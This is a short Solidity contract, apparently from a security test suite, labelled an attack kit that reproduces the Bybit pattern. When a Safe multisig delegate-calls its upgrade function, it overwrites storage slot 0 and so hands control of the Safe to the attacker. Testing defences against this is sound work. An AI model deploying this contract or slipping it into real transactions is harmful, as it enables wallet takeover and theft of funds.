// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @title Attack kit (tests only): the Bybit pattern. Delegate-called by a Safe, it replaces
/// the Safe's singleton (storage slot 0) with `newSingleton` — whoever wrote that code then
/// controls the Safe. Called directly it only changes its own storage.
contract AttackSingletonWriter {
    function upgrade(address newSingleton) external {
        assembly {
            sstore(0, newSingleton)
        }
    }
}
